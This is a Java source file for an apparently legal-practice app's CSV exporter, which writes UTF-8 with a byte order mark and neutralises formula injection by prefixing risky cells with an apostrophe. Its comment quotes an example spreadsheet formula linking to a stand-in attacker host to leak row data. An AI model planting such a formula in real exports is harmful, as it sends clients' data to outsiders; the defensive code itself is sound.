package org.caseport.reports;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;

/**
 * A CSV file being written row by row into a stream (Commons CSV, RFC 4180: commas, CRLF, quotes
 * where needed), UTF-8 with a byte order mark — without it Excel, which most clients open exports
 * with, reads the file as ANSI and garbles every accented name — and a header row. Nothing is kept:
 * each row goes to the stream through a small buffer.
 */
public final class CsvTable implements AutoCloseable {

    private static final char BYTE_ORDER_MARK = '\uFEFF';

    private final CSVPrinter printer;

    private CsvTable(CSVPrinter printer) {
        this.printer = printer;
    }

    /** Starts the file with its header row. Closing the table flushes it; the stream stays open. */
    public static CsvTable open(OutputStream out, List<String> header) throws IOException {
        BufferedWriter writer = new BufferedWriter(new OutputStreamWriter(out, StandardCharsets.UTF_8));
        writer.write(BYTE_ORDER_MARK);
        return new CsvTable(CSVFormat.RFC4180.builder().setHeader(header.toArray(String[]::new)).get()
                .print(writer));
    }

    /** One row: text is made safe ({@link #cell}), numbers and dates are written as they are, null as empty. */
    public void row(List<?> cells) {
        List<String> values = new ArrayList<>(cells.size());
        for (Object cell : cells) {
            values.add(cell(cell));
        }
        try {
            printer.printRecord(values);
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    @Override
    public void close() throws IOException {
        printer.flush();
    }

    /**
     * A cell's text. Text that starts with {@code = + - @}, a tab or a carriage return gets a leading
     * apostrophe: a spreadsheet opening the file would take such a cell for a formula and run it — a
     * note typed as {@code =HYPERLINK("https://evil.example/?"&A2, "Open")} would send the row's data
     * away when clicked, and older spreadsheets run commands through DDE — and the people who open
     * these files are the firm's clients and its staff, who trust them. The apostrophe makes the cell
     * text in every spreadsheet (OWASP's advice on CSV injection); a plain text editor shows it.
     * Numbers and dates Caseport writes itself and are never formulas, so they stay numbers.
     */
    static String cell(Object value) {
        if (value == null) {
            return "";
        }
        if (value instanceof BigDecimal number) {
            return number.toPlainString();
        }
        if (value instanceof LocalDate date) {
            return date.toString();
        }
        if (value instanceof Boolean yes) {
            return yes ? "yes" : "no";
        }
        String text = value.toString();
        return !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0 ? "'" + text : text;
    }
}
